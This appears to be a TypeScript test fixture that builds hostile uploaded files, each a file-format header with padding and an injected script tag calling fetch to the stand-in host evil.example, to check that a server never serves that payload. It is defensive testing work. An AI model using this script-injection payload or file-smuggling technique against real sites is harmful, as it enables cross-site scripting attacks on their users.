/** What must not be in anything we serve. */
export const payload = '<script>fetch("//evil.example/talkdrum-payload")</script>';

/** A file as an attacker would send it. */
export interface HostileFile {
  name: string;
  make: () => Buffer | Promise<Buffer>;
}

export const file = (name: string, make: HostileFile['make']): HostileFile => ({ name, make });
export const hex = (text: string): Buffer => Buffer.from(text.replaceAll(' ', ''), 'hex');
export const text = (content: string): Buffer => Buffer.from(content, 'utf8');
/** A head of a file format and something after it. */
export const headed = (head: Buffer | string): Buffer =>
  Buffer.concat([
    typeof head === 'string' ? Buffer.from(head, 'latin1') : head,
    Buffer.alloc(600, 7),
    text(payload),
  ]);
